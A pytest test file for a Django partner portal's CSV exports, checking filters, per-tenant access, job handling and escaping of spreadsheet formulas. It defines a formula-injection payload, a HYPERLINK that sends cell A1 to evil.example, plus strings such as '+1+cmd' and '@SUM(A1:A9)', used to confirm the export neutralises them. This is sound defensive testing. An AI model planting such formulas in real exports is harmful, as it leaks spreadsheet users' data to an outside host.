"""Every list of the portal as CSV (issue 12): deals, invoices, people, certifications, scorecards and referral
fees, each under its list's filters, with exactly the rows the user may see, written by a job; a filter that
cannot be read starts nothing; a formula typed into a cell is written as text; another partner's list, job or
file is 404."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from django.utils import timezone

from partnerhub.billing.models import Invoice, InvoiceStatus
from partnerhub.core.errors import Conflict
from partnerhub.core.models import Job, JobStatus, SecurityEvent, SecurityEventKind
from partnerhub.deals import services as deal_services
from partnerhub.people.models import Certification, CertificationStatus, Person

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.fixture(autouse=True)
def private_files(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def read_csv(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(b"".join(response).decode())))


@pytest.fixture
def export(client, django_capture_on_commit_callbacks):
    """`export(user, path)`: `user` presses the list's export button (POST `path`, its filters in the query);
    without a broker the job runs after the commit. Returns the file's rows and the job."""

    def post(user, path: str) -> tuple[list[dict[str, str]], Job]:
        client.force_login(user)
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(path)
        assert response.status_code == 302, response.content.decode()[:500]
        job = Job.objects.order_by("-pk").first()
        assert job is not None
        job.refresh_from_db()
        assert job.status == JobStatus.DONE, job.error
        assert response["Location"].endswith(f"/{job.pk}/")
        page = client.get(response["Location"]).content.decode()
        assert f'href="{job.result["url"]}" download>Download {job.result["filename"]}' in page
        return read_csv(client.get(job.result["url"])), job

    return post


@pytest.fixture
def northwind(make_partner):
    return make_partner("Northwind", regions=["EMEA", "APAC"])


@pytest.fixture
def contoso(make_partner):
    return make_partner("Contoso", regions=["EMEA"])


@pytest.fixture
def paul(northwind, make_representative):
    return make_representative(northwind, "paul")


@pytest.fixture
def carl(contoso, make_representative):
    return make_representative(contoso, "carl")


def register(partner, user, customer: str, title: str = "Platform", phone: str = "") -> int:
    registration = deal_services.registration_submit(
        partner=partner, end_customer=customer, title=title, country="DE", estimated_value=Decimal("1234.50"),
        contact_name="Ann", contact_email="ann@customer.example", contact_phone=phone, consent_confirmed=True,
        submitted_on=dt.date(2019, 4, 1), acting_user=user,
    )  # fmt: skip
    return registration.pk


# Deals -----------------------------------------------------------------------------------------------------------


@pytest.fixture
def deals(northwind, contoso, paul, carl, manager_user):
    register(northwind, paul, "Initech", "Amelia rollout")
    register(northwind, paul, FORMULA, "+1+cmd", phone="+49 30 1234567")
    register(contoso, carl, "Globex", "Amelia rollout")
    decided = register(northwind, paul, "Umbrella")
    from partnerhub.deals.models import Registration

    deal_services.registration_reject(
        registration=Registration.objects.get(pk=decided), rejected_on=dt.date(2019, 4, 2), reason="-2+3",
        acting_user=manager_user,
    )  # fmt: skip


def test_a_partner_exports_its_own_deals_under_the_lists_filters(export, northwind, paul, deals):
    rows, job = export(paul, f"/partners/{northwind.pk}/deals.csv?q=Amelia")

    assert [(row["partner"], row["end customer"], row["opportunity"]) for row in rows] == [
        ("Northwind", "Initech", "Amelia rollout")
    ]
    assert rows[0]["estimated value"] == "1234.50"
    assert rows[0]["currency"] and rows[0]["submitted on"] == "2019-04-01"
    assert job.result["summary"] == "1 deal registration exported."
    assert SecurityEvent.objects.get(kind=SecurityEventKind.EXPORT).user == paul


def test_the_deals_export_writes_formulas_as_text(export, northwind, paul, deals):
    rows, _job = export(paul, f"/partners/{northwind.pk}/deals.csv?status=")

    assert {row["end customer"] for row in rows} == {"Initech", "'" + FORMULA, "Umbrella"}
    hostile = next(row for row in rows if row["end customer"] == "'" + FORMULA)
    assert (hostile["opportunity"], hostile["contact phone"]) == ("'+1+cmd", "'+49 30 1234567")
    rejected = next(row for row in rows if row["end customer"] == "Umbrella")
    assert (rejected["status"], rejected["decision reason"], rejected["decided on"]) == (
        "Rejected",
        "'-2+3",
        "2019-04-02",
    )


def test_the_console_deals_queue_exports_what_waits_unless_told_otherwise(client, export, manager_user, deals):
    waiting, _job = export(manager_user, "/console/deals.csv")
    rejected, _job = export(manager_user, "/console/deals.csv?status=rejected")
    everything, _job = export(manager_user, "/console/deals.csv?status=&q=Amelia")

    assert sorted(row["end customer"] for row in waiting) == sorted(["Initech", "'" + FORMULA, "Globex"])
    assert [row["end customer"] for row in rejected] == ["Umbrella"]
    assert sorted(row["partner"] for row in everything) == ["Contoso", "Northwind"]
    page = client.get(f"/console/jobs/{Job.objects.latest('pk').pk}/").content.decode()
    assert re.findall(r'<a href="[^"]*" aria-current="page">([^<]*)</a>', page) == ["Deals"]  # the list's tab


def test_a_deals_export_under_a_bad_filter_says_why_and_starts_nothing(client, northwind, paul, manager_user, deals):
    client.force_login(paul)
    response = client.post(f"/partners/{northwind.pk}/deals.csv?status=maybe")

    assert response.status_code == 400
    page = response.content.decode()
    assert "Nothing was exported" in page
    assert "Status: Select a valid choice. maybe is not one of the available choices." in page
    client.force_login(manager_user)
    assert client.post("/console/deals.csv?q=" + "x" * 101).status_code == 400
    assert not Job.objects.exists()


def test_the_deal_lists_offer_the_export_with_their_filters(client, northwind, paul, manager_user, deals):
    client.force_login(paul)
    html = client.get(f"/partners/{northwind.pk}/deals/?status=pending&q=Ini&page=1").content.decode()
    assert f'action="/partners/{northwind.pk}/deals.csv?status=pending&amp;q=Ini"' in html
    client.force_login(manager_user)
    assert 'action="/console/deals.csv?status=won"' in client.get("/console/deals/?status=won").content.decode()


# Tenancy: another partner's list, job or file ----------------------------------------------------------------------


def test_a_partner_user_cannot_export_another_partners_list(client, contoso, paul, deals):
    client.force_login(paul)

    for path in ("deals", "invoices", "people", "certifications", "scorecards", "referral-fees"):
        assert client.post(f"/partners/{contoso.pk}/{path}.csv").status_code == 404, path
    for path in ("deals", "invoices", "certifications", "referral-fees"):
        assert client.post(f"/console/{path}.csv").status_code == 403, path
    assert client.get("/console/referral-fees/").status_code == 403  # the managers' list of every partner's fees
    assert not Job.objects.exists()


def test_only_the_user_who_exported_reaches_the_job_and_its_file(
    client, export, northwind, contoso, paul, carl, make_representative, manager_user, deals
):
    _rows, job = export(paul, f"/partners/{northwind.pk}/deals.csv")
    page, file = f"/partners/{northwind.pk}/exports/{job.pk}/", f"/partners/{northwind.pk}/exports/{job.pk}/file/"

    for someone in (carl, make_representative(northwind, "nina"), manager_user):
        client.force_login(someone)
        assert client.get(page).status_code == 404
        assert client.get(file).status_code == 404
    client.force_login(carl)
    assert client.get(f"/partners/{contoso.pk}/exports/{job.pk}/").status_code == 404
    client.force_login(paul)
    assert client.get(f"/partners/{contoso.pk}/exports/{job.pk}/file/").status_code == 404
    assert client.get(f"/console/jobs/{job.pk}/file/").status_code == 403
    assert client.get(page).status_code == 200


def test_the_job_reads_the_rows_as_its_user_may_see_them_when_it_runs(client, northwind, paul, deals):
    """A user removed from the partner between the button and the job gets no file of it."""
    client.force_login(paul)
    response = client.post(f"/partners/{northwind.pk}/deals.csv")  # the job waits for the commit: not run yet
    job = Job.objects.get()
    assert response.status_code == 302 and job.status == JobStatus.QUEUED
    from partnerhub.partners.models import PartnerUser
    from partnerhub.portal.exports import export_list

    PartnerUser.objects.filter(user=paul).delete()
    with pytest.raises(Conflict, match="no longer one you may see"):
        export_list(job, lambda done, total: None)


# Invoices --------------------------------------------------------------------------------------------------------


def invoice(partner, amount: str, *, paid: bool = False, reference: str = "") -> Invoice:
    return Invoice.objects.create(
        partner=partner, origin="enrollment", program_year=2019, classification="alliance", amount=Decimal(amount),
        currency="EUR", issued_on=dt.date(2019, 4, 15), due_on=dt.date(2019, 5, 15),
        status=InvoiceStatus.PAID if paid else InvoiceStatus.OPEN, paid_on=dt.date(2019, 5, 1) if paid else None,
        payment_reference=reference, policy_version=dt.date(2019, 1, 1),
    )  # fmt: skip


@pytest.fixture
def invoices(northwind, contoso):
    invoice(northwind, "1500.00")
    invoice(northwind, "750.50", paid=True, reference="@SUM(A1:A9)")
    invoice(contoso, "3000.00", paid=True, reference="wire 1")


def test_invoices_export_with_their_status_filter_and_own_rows(export, northwind, paul, manager_user, invoices):
    own, _job = export(paul, f"/partners/{northwind.pk}/invoices.csv?status=paid")
    every_paid, _job = export(manager_user, "/console/invoices.csv?status=paid")
    everything, _job = export(manager_user, "/console/invoices.csv")

    assert [(r["partner"], r["amount"], r["status"], r["payment reference"]) for r in own] == [
        ("Northwind", "750.50", "Paid", "'@SUM(A1:A9)")
    ]
    assert sorted(r["partner"] for r in every_paid) == ["Contoso", "Northwind"]
    assert len(everything) == 3
    assert {r["overdue"] for r in everything if r["status"] == "Open"} == {"yes"}  # due 15 May 2019


def test_an_invoices_export_under_a_bad_status_starts_nothing(client, northwind, paul, manager_user, invoices):
    client.force_login(paul)
    assert client.post(f"/partners/{northwind.pk}/invoices.csv?status=settled").status_code == 400
    client.force_login(manager_user)
    response = client.post("/console/invoices.csv?status=settled")

    assert response.status_code == 400
    assert "Status: Select a valid choice. settled is not one of the available choices." in response.content.decode()
    assert not Job.objects.exists()
    assert 'action="/console/invoices.csv?status=paid"' in client.get("/console/invoices/?status=paid").content.decode()


# People and certifications ---------------------------------------------------------------------------------------


@pytest.fixture
def people(northwind, contoso):
    ann = Person.objects.create(
        partner=northwind, name="Ann Archer", email="ann@nw.example", region="EMEA", roles=["sales"]
    )
    formula = Person.objects.create(
        partner=northwind, name="@SUM(A1:A9)", email="x@nw.example", region="APAC", roles=["technical"]
    )
    Person.objects.create(
        partner=northwind, name="Ben Left", email="ben@nw.example", region="EMEA", roles=["sales"],
        joined_on=dt.date(2018, 1, 1), left_on=dt.date(2019, 1, 1),
    )  # fmt: skip
    Person.objects.create(partner=contoso, name="Cleo Contoso", email="cleo@c.example", region="EMEA", roles=["sales"])
    today = timezone.localdate()
    for person, kind, status in ((ann, "sales", "verified"), (formula, "ctl", "claimed")):
        Certification.objects.create(
            person=person, kind=kind, product="amelia" if kind == "ctl" else "", status=status,
            earned_on=today - dt.timedelta(days=30), expires_on=today + dt.timedelta(days=300),
        )  # fmt: skip


def test_people_export_with_the_lists_filters(export, northwind, paul, people):
    current, _job = export(paul, f"/partners/{northwind.pk}/people.csv")
    everyone, _job = export(paul, f"/partners/{northwind.pk}/people.csv?current=all&region=EMEA")

    assert [row["name"] for row in current] == ["'@SUM(A1:A9)", "Ann Archer"]
    assert [row["name"] for row in everyone] == ["Ann Archer", "Ben Left"]
    assert everyone[1]["left on"] == "2019-01-01"
    assert current[1]["certifications valid today"].startswith("Sales")
    assert current[0]["certifications valid today"].endswith("[awaiting verification]")


def test_a_people_export_under_a_region_the_partner_has_not_starts_nothing(client, northwind, paul, people):
    client.force_login(paul)
    response = client.post(f"/partners/{northwind.pk}/people.csv?region=LATAM&current=all")

    assert response.status_code == 400
    assert "Region: Select a valid choice." in response.content.decode()
    assert not Job.objects.exists()
    html = client.get(f"/partners/{northwind.pk}/people/?region=EMEA").content.decode()
    assert f'action="/partners/{northwind.pk}/people.csv?region=EMEA"' in html
    assert f'action="/partners/{northwind.pk}/certifications.csv?region=EMEA"' in html


def test_certifications_export_for_the_partner_and_the_managers_queue(export, northwind, paul, manager_user, people):
    own, _job = export(paul, f"/partners/{northwind.pk}/certifications.csv?q=Ann")
    queue, _job = export(manager_user, "/console/certifications.csv")

    assert [(row["person"], row["kind"], row["status"]) for row in own] == [("Ann Archer", "Sales", "Verified")]
    assert [(row["partner"], row["person"], row["product"]) for row in queue] == [
        ("Northwind", "'@SUM(A1:A9)", "amelia")
    ]
    assert Certification.objects.filter(status=CertificationStatus.CLAIMED).count() == 1


def test_a_certifications_export_under_a_bad_filter_starts_nothing(client, northwind, paul, people):
    client.force_login(paul)

    assert client.post(f"/partners/{northwind.pk}/certifications.csv?current=some").status_code == 400
    assert not Job.objects.exists()


# Scorecards ------------------------------------------------------------------------------------------------------


@pytest.fixture
def evaluated(partner_in, manager_user, make_representative):
    """Two partners evaluated for 2019Q2, one named as a spreadsheet would run it; one scorecard decided."""
    from partnerhub.evaluations.models import Scorecard
    from partnerhub.evaluations.services.decisions import scorecard_decide
    from partnerhub.evaluations.services.runs import evaluation_run_create
    from partnerhub.partners.models import Partner

    contoso = partner_in("registered", name="Contoso")
    formula = partner_in("registered", name="Formula")
    Partner.objects.filter(pk=formula.pk).update(name=FORMULA)
    run = evaluation_run_create(period="2019Q2", as_of=dt.date(2019, 7, 5), acting_user=manager_user)
    scorecard_decide(
        scorecard_obj=Scorecard.objects.get(run=run, partner=contoso), accept=True, outcome=None, target=None,
        reason="-as proposed", decided_on=dt.date(2019, 7, 6), acting_user=manager_user,
    )  # fmt: skip
    return run, contoso, make_representative(contoso, "carla"), formula


def test_a_runs_scorecards_export_with_the_pages_filters(export, manager_user, evaluated):
    run, _contoso, _carla, _formula = evaluated
    everything, _job = export(manager_user, f"/console/evaluations/{run.pk}/scorecards.csv")
    decided, _job = export(manager_user, f"/console/evaluations/{run.pk}/scorecards.csv?decided=yes")
    undecided, _job = export(manager_user, f"/console/evaluations/{run.pk}/scorecards.csv?decided=no&q=evil")

    assert sorted(row["partner"] for row in everything) == sorted(["Contoso", "'" + FORMULA])
    assert [(row["partner"], row["quarter"], row["decided on"], row["decision reason"]) for row in decided] == [
        ("Contoso", "2019Q2", "2019-07-06", "'-as proposed")
    ]
    assert [row["partner"] for row in undecided] == ["'" + FORMULA]


def test_a_partner_exports_its_own_scorecards_without_the_managers_decision(export, evaluated):
    _run, contoso, carla, _formula = evaluated
    rows, _job = export(carla, f"/partners/{contoso.pk}/scorecards.csv")

    assert [row["quarter"] for row in rows] == ["2019Q2"]
    assert "decision" not in rows[0] and "partner" not in rows[0]
    assert rows[0]["evaluated on"] == "2019-07-05"


def test_scorecard_exports_refuse_bad_filters_and_other_partners(client, manager_user, evaluated):
    run, _contoso, carla, formula = evaluated
    client.force_login(manager_user)
    response = client.post(f"/console/evaluations/{run.pk}/scorecards.csv?outcome=promote")
    assert response.status_code == 400
    assert "Proposal: Select a valid choice. promote is not one of the available choices." in response.content.decode()
    assert client.post(f"/console/evaluations/{run.pk + 1}/scorecards.csv").status_code == 404
    html = client.get(f"/console/evaluations/{run.pk}/?outcome=keep").content.decode()
    assert f'action="/console/evaluations/{run.pk}/scorecards.csv?outcome=keep"' in html
    client.force_login(carla)
    assert client.post(f"/console/evaluations/{run.pk}/scorecards.csv").status_code == 403
    assert client.post(f"/partners/{formula.pk}/scorecards.csv").status_code == 404
    assert not Job.objects.exists()


# Referral fees ---------------------------------------------------------------------------------------------------


@pytest.fixture
def fees(api_client, manager_user, northwind, contoso, standing):
    client = api_client(manager_user)
    for partner, customer, ordered_on in (
        (northwind, FORMULA, "2019-05-02"),
        (northwind, "Initech", "2019-08-01"),
        (contoso, "Globex", "2019-05-03"),
    ):
        answer = client.post(
            "/api/v1/orders/",
            {
                "end_customer": customer, "opportunity": "Amelia", "ordered_on": ordered_on,
                "first_year_net_revenue": "1000.00", "partner": partner.pk, "channel": "referral", "net_new": True,
                "country": "DE",
            },
            format="json",
        )  # fmt: skip
        assert answer.status_code == 201, answer.json()


def test_referral_fees_export_by_quarter_for_the_partner_and_the_console(export, northwind, paul, manager_user, fees):
    own, _job = export(paul, f"/partners/{northwind.pk}/referral-fees.csv?period=2019Q2")
    quarter, _job = export(manager_user, "/console/referral-fees.csv?period=2019Q2")
    by_name, _job = export(manager_user, "/console/referral-fees.csv?q=initech")

    # No registration came before the order: not eligible, and the conditions not met say so (§7.2).
    assert [
        (r["partner"], r["end customer"], r["first-year net revenue"], r["amount"], r["eligible"]) for r in own
    ] == [("Northwind", "'" + FORMULA, "1000.00", "0.00", "no")]
    assert "§7.3" in own[0]["conditions not met"] or "§7.2" in own[0]["conditions not met"]
    assert [r["partner"] for r in quarter] == ["Northwind", "Contoso"]
    assert [r["end customer"] for r in by_name] == ["Initech"]


def test_a_referral_fee_export_under_a_bad_quarter_says_how_to_write_it(client, northwind, paul, manager_user, fees):
    client.force_login(paul)
    response = client.post(f"/partners/{northwind.pk}/referral-fees.csv?period=2019-Q2")

    assert response.status_code == 400
    assert "Quarter: Write the quarter as year and quarter, for example 2019Q3." in response.content.decode()
    assert '?period=2019Q2">' in client.get(f"/partners/{northwind.pk}/statements/?period=2019Q2").content.decode()
    client.force_login(manager_user)
    assert client.post("/console/referral-fees.csv?status=owed").status_code == 400
    assert not Job.objects.exists()
    page = client.get("/console/referral-fees/?period=2019Q2").content.decode()
    assert 'action="/console/referral-fees.csv?period=2019Q2"' in page
    assert "Globex" in page and "Initech" not in page


def test_the_export_reports_its_progress_and_a_retry_writes_the_file_again(export, monkeypatch, northwind, paul, deals):
    from django.core.files.storage import default_storage

    from partnerhub.core.background import progress_of
    from partnerhub.portal.exports import export_list

    monkeypatch.setattr("partnerhub.core.background.CSV_PROGRESS_EVERY", 1)
    rows, job = export(paul, f"/partners/{northwind.pk}/deals.csv?status=")
    reported: list[tuple[int, int]] = []

    again = export_list(job, lambda done, total: reported.append((done, total)))  # the queue delivered it twice

    assert reported == [(1, 3), (2, 3), (3, 3), (3, 3)]
    assert progress_of(job) == (3, 3)
    assert again["file"] == job.result["file"] and again["rows"] == len(rows) == 3
    assert default_storage.listdir(f"exports/{job.pk}")[1] == [job.result["filename"]]
